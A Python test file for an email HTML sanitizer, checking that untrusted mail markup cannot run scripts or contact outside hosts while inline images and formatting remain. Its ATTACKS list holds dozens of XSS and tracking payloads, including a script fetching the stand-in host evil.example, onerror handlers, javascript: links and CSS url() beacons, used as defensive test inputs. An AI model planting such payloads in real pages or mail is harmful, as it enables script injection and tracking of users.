"""A stranger's HTML made fit for a page: nothing runs, nothing calls home, pictures inside the mail stay."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.markup import ATTRIBUTES, TAGS, cleaned

HOME = "http://evil.example"
ATTACKS = [
    "<script>fetch('{h}')</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>1</script></svg>",
    "<iframe src='{h}'></iframe>", "<object data='{h}'></object>", "<embed src='{h}'>", "<base href='{h}'>",
    "<meta http-equiv=refresh content='0;url={h}'>", "<link rel=stylesheet href='{h}'>", "<style>@import '{h}'</style>",
    "<form action='{h}'><input name=a><button formaction='{h}'>x</button></form>", "<a href='/settings/users'>x</a>",
    "<a href='javascript:alert(1)'>x</a>", "<img src='/api/v1/session'>", "<img src='files/x'>",
    "<a href=' &#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<div style=\"background:url({h}/a.png)\">x</div>", "<div style=\"background-image:url({h})\">x</div>",
    "<div style=\"color:u\\72l({h})\">x</div>", "<table background='{h}'><td background='{h}'>x</td></table>",
    "<p style=\"list-style:url({h})\">x</p>", "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
    "<video poster='{h}' src='{h}'></video>", "<audio src='{h}'></audio>", "<img srcset='{h} 2x'>",
    "<picture><source srcset='{h}'></picture>", "<input type=image src='{h}'>", "<img src='//evil.example/a.png'>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<img lowsrc='{h}' dynsrc='{h}'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<body onload=alert(1) background='{h}'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:text/html;base64,PHA+'>", "<a ping='{h}'>x</a>",
    "<div id=inbox class=admin name=cookie>x</div>", "<template><script>1</script></template>", "<img src='cid:none'>",
]  # fmt: skip


class Seen(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def look(html: str) -> Seen:
    """Return what is left, once it is sure that it can do nothing."""
    seen = Seen(html)
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:", "tel:")), value
        if name == "src":
            assert value.startswith(("/files/", "/remote/", "data:image/png;base64,")), value
        assert "url(" not in value.lower()
        assert "\\" not in value or name != "style"
    return seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_calls_home(attack: str) -> None:
    html = cleaned(attack.replace("{h}", HOME), {}).html
    seen = look(html)
    assert not [value for _, name, value in seen.attributes if HOME in value and name != "href"]
    assert "alert" not in html.replace("&lt;", "") or "<" not in html.partition("alert")[0][-20:]


@given(st.text(alphabet="<>/='\" aimgscriptonerror:&#;()x\\", max_size=200))
def test_no_jumble_gets_through(html: str) -> None:
    look(cleaned(f"<div {html}", {}).html)


def test_pictures_elsewhere_wait_until_asked() -> None:
    mail = f"<p>Hi <img src='{HOME}/pixel.gif'> <img src='https://a.example/b.png' alt='Logo'></p>"
    shown = cleaned(mail, {})
    assert (shown.blocked, shown.remote) == (2, (f"{HOME}/pixel.gif", "https://a.example/b.png"))
    assert "src" not in shown.html
    assert 'alt="Logo"' in shown.html
    asked = cleaned(mail, {}, remote=lambda url: f"/remote/{len(url)}")
    assert (asked.blocked, asked.html.count('src="/remote/')) == (0, 2)
    assert HOME not in asked.html


def test_pictures_of_the_mail_are_shown_from_ours() -> None:
    shown = cleaned(
        '<img src="cid:logo@x"><img src="CID:<b>"><img src="data:image/png;base64,AAAA">', {"logo@x": "/files/t/a"}
    )
    assert shown.html == '<img src="/files/t/a"><img><img src="data:image/png;base64,AAAA">'
    assert shown.blocked == 0


def test_what_a_letter_looks_like_stays() -> None:
    letter = (
        '<h1 style="color:red;text-align:center">您好</h1><table border="1"><tr><td colspan="2">1</td></tr></table>'
    )
    shown = cleaned(letter, {}).html
    assert "color:red" in shown
    assert 'colspan="2"' in shown
    link = cleaned('<a href="https://a.example">x</a>', {}).html
    assert 'target="_blank"' in link
    assert "noopener" in link
    assert cleaned("", {}).html == ""
